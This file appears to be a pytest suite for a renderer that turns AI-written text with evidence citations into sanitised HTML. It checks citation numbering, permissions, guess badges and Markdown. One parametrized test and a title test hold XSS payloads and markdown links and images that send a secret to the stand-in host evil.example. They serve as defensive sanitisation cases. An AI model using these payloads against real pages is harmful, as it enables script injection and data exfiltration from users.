import pytest

from genai.evidence import collect, render


def test_citations_are_numbered_links_in_the_order_of_the_text(queue, host, operator):
    other = collect.of("resource", {"id": host.pk}, "web-3")
    text = f"On web-3 [E{other.pk}] it rose [E{queue.pk}]. It rose again [E{other.pk}, E{queue.pk}]."
    html = render.html(text, operator)
    assert html.count(f'href="/evidence/{queue.pk}"') == html.count(f'href="/evidence/{other.pk}"') == 2
    assert html.index(">1</a>") < html.index(">2</a>")
    first, second = render.sources(text, operator)
    assert (first.number, first.evidence, first.url) == (1, other, f"/evidence/{other.pk}")
    assert (second.number, second.evidence) == (2, queue)


def test_what_is_not_there_is_not_cited(operator, db):
    assert "E12" not in render.html("It rose [E12].", operator)
    assert render.sources("It rose [E12].", operator) == []
    assert render.sources_html("It rose [E12].", operator) == ""


def test_who_may_not_see_it_sees_no_link(queue, viewer, admin):
    queue.permission = "audit:read"
    queue.save()
    text = f"It rose [E{queue.pk}]."
    assert "/evidence/" not in render.html(text, viewer)
    assert render.sources(text, viewer) == []
    assert "/evidence/" in render.html(text, admin)


def test_guesses_wear_a_badge(operator, db):
    assert '<span class="tag tag-guess"' in render.html("Maybe the cache [guess].", operator)
    assert "[guess]" not in render.html("Maybe the cache [GUESS].", operator)


def test_markdown_is_markdown(operator, db):
    html = render.html("**bold** and `[E1]`\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n", operator)
    for part in ("<strong>bold</strong>", "<code>[E1]</code>", "<li>one</li>", "<td>1</td>"):
        assert part in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?d=secret)",
        "![x][y]\n\n[y]: https://evil.example/?d=secret",
        "[click](https://evil.example/?d=secret)",
        "[click](//evil.example/x)",
        "[click](/\\evil.example/x)",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "<https://evil.example/x>",
        "[**b** ![x](https://evil.example/)](https://evil.example/)",
        '[x](/alerts/ "onmouseover=alert(1)")',
    ],
)
def test_nothing_leads_out_or_runs(text, operator, db):
    html = str(render.html(text, operator))
    for bad in ("<script", "<img", 'href="http', 'href="//', 'href="javascript', 'href="data:', 'onerror="', 'href="/\\'):
        assert bad not in html.lower(), html
    assert "<a" not in html or 'href="/alerts/"' in html


def test_a_title_from_outside_is_escaped(queue, operator):
    queue.title = '"><script>alert(1)</script>'
    queue.save()
    text = f"It rose [E{queue.pk}]."
    assert "<script" not in render.html(text, operator)
    assert "<script" not in render.sources_html(text, operator)


def test_own_pages_may_be_linked(operator, db):
    assert '<a href="/incidents/7/">INC-7</a>' in render.html("See [INC-7](/incidents/7/).", operator)
